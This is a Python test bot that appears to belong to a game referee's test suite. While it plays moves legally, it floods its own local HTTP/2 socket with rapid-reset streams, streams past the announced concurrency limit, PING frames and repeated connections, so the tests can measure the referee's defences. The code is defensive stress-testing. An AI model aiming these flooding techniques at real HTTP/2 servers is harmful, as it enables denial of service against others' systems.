"""A bot that abuses HTTP/2 on its own seat's socket while it plays, for the referee's tests.

    python tests/bots/h2flood.py ATTACK [CPU]

It speaks raw HTTP/2 (the ``h2`` package) and ignores every limit the referee announces:
on the one connection that carries its game it plays legally (the first legal action
each time) and, between its replies, sends without pause:

  rst      new streams, each reset at once (the HTTP/2 "rapid reset" attack)
  streams  new streams that stay open, past the announced MAX_CONCURRENT_STREAMS
  ping     PING frames
  conns    new connections (handshake, then a HEADERS+RST pair), one after another
  quiet    nothing: the same bot without the attack, to compare with

When the referee closes its connection it connects again and goes on attacking; it never
says hello again, so its seat has failed. With CPU, it runs on that CPU only (the tests put
it beside the match, so that they measure what the referee pays, not the attacker's own
CPU). It writes how many frames it sent to stderr every half second.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from arenabot.proto import arena_pb2 as pb

ATTACK = sys.argv[1]
if len(sys.argv) > 2:
    os.sched_setaffinity(0, {int(sys.argv[2])})
PATH = os.environ["ARENA_SOCKET"].removeprefix("unix://")
HEADERS = [(":method", "POST"), (":scheme", "http"), (":path", "/arena.v1.Referee/Play"),
           (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
BATCH = 50  # attack frames per pass of the loop


class Reckless(h2.connection.H2Connection):
    """Opens streams whatever the peer's SETTINGS_MAX_CONCURRENT_STREAMS says."""

    @property
    def open_outbound_streams(self) -> int:
        return 0


def connect() -> tuple[socket.socket, Reckless]:
    while True:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            sock.connect(PATH)
            break
        except OSError:
            sock.close()
            time.sleep(0.001)
    conn = Reckless(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def grpc_frame(msg: pb.BotMessage) -> bytes:
    data = msg.SerializeToString()
    return struct.pack(">BI", 0, len(data)) + data


def attack(conn: Reckless) -> None:
    for _ in range(BATCH):
        if ATTACK in ("rst", "streams"):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, HEADERS)
            if ATTACK == "rst":
                conn.reset_stream(sid)
        elif ATTACK == "ping":
            conn.ping(os.urandom(8))


def flood_connections() -> None:
    """One short-lived connection after another."""
    with contextlib.suppress(OSError):  # refused: the referee closed it
        sock, conn = connect()
        with sock:
            conn.send_headers(conn.get_next_available_stream_id(), HEADERS)
            conn.reset_stream(1)
            sock.sendall(conn.data_to_send())


def play(hello: bool) -> None:
    sock, conn = connect()
    game = conn.get_next_available_stream_id()
    if hello:
        conn.send_headers(game, HEADERS)
        conn.send_data(game, grpc_frame(pb.BotMessage(hello=pb.Hello(name="h2flood", version="1",
                                                                      protocol_version=1))))
        sock.sendall(conn.data_to_send())
    buffer = b""
    sent, told = 0, time.monotonic()
    with sock:
        while True:
            if ATTACK == "conns":
                flood_connections()
                sent += 1
            elif ATTACK != "quiet":
                attack(conn)
                sent += BATCH
            readable = select.select([sock], [], [], 0)[0]
            if readable:
                data = sock.recv(65536)
                if not data:
                    return  # closed by the referee: connect again
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                        if event.stream_id == game:
                            buffer += event.data
            while len(buffer) >= 5:
                (size,) = struct.unpack(">I", buffer[1:5])
                if len(buffer) < 5 + size:
                    break
                msg = pb.RefereeMessage.FromString(buffer[5:5 + size])
                buffer = buffer[5 + size:]
                if msg.WhichOneof("message") == "decision":
                    reply = pb.Reply(decision_id=msg.decision.decision_id, action=msg.decision.legal_actions[0])
                    conn.send_data(game, grpc_frame(pb.BotMessage(reply=reply)))
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                return
            if time.monotonic() - told > 0.5:
                print(f"h2flood {ATTACK}: {sent} sent", file=sys.stderr, flush=True)
                told = time.monotonic()


hello = True
while True:
    try:
        play(hello)
    except (OSError, h2.exceptions.ProtocolError) as exc:
        print(f"h2flood {ATTACK}: {type(exc).__name__}: {exc}", file=sys.stderr, flush=True)
    hello = False
